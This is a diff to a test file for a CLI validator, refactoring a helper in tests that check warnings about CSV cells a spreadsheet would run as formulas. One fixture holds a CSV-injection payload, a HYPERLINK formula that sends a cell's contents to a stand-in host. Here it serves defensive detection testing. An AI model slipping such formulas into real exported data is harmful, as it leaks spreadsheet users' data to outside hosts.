@@ -3,7 +3,7 @@
 import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { besidesFixtureWarning, fixtureCopy, runCli } from "../helpers.js";
+import { fixtureCopy, runCli, warningLines } from "../helpers.js";
 
 /** The fixtures with Dublin #42's name and address written as given (CSV cells, quoted). */
 async function dublin42Written(name: string, address: string): Promise<string> {
@@ -21,11 +21,6 @@ async function dublin42Written(name: string, address: string): Promise<string> {
   return source;
 }
 
-const warnings = (stderr: string): string[] =>
-  besidesFixtureWarning(stderr)
-    .split("\n")
-    .filter((line) => line.startsWith("warning: "));
-
 describe("validate says a cell a spreadsheet would run as a formula", () => {
   it("warns of a name starting with = and an address with @, each on its field, published as given", async () => {
     const source = await dublin42Written('=HYPERLINK("https://example.org/?"&A2,"Map")', "@SUM(1)");
@@ -33,7 +28,7 @@ describe("validate says a cell a spreadsheet would run as a formula", () => {
     expect(result.code).toBe(0);
     const said = (field: string, text: string) =>
       `warning: ${source}/stations.csv:2 (dublin #42) ${field}: "${text}" starts as a formula does: a spreadsheet opening the CSV downloads runs it (CSV injection: it can send a reader's cells away, or start a command); check where it came from; published as given`;
-    expect(warnings(result.stderr)).toEqual([
+    expect(warningLines(result.stderr)).toEqual([
       said("name", '=HYPERLINK("https://example.org/?"&A2,"Map")'),
       said("address", "@SUM(1)"),
     ]);
@@ -42,11 +37,11 @@ describe("validate says a cell a spreadsheet would run as a formula", () => {
   it("warns of + and -, not of those signs inside a name", async () => {
     const source = await dublin42Written("+1+2", "-3 Smithfield");
     const result = await runCli(["validate", "--source", source]);
-    expect(warnings(result.stderr).map((line) => line.split(": ")[1])).toEqual([
+    expect(warningLines(result.stderr).map((line) => line.split(": ")[1])).toEqual([
       `${source}/stations.csv:2 (dublin #42) name`,
       `${source}/stations.csv:2 (dublin #42) address`,
     ]);
     const inside = await dublin42Written("SMITHFIELD = NORTH", "Smithfield-North @ 1+1");
-    expect(warnings((await runCli(["validate", "--source", inside])).stderr)).toEqual([]);
+    expect(warningLines((await runCli(["validate", "--source", inside])).stderr)).toEqual([]);
   });
 });
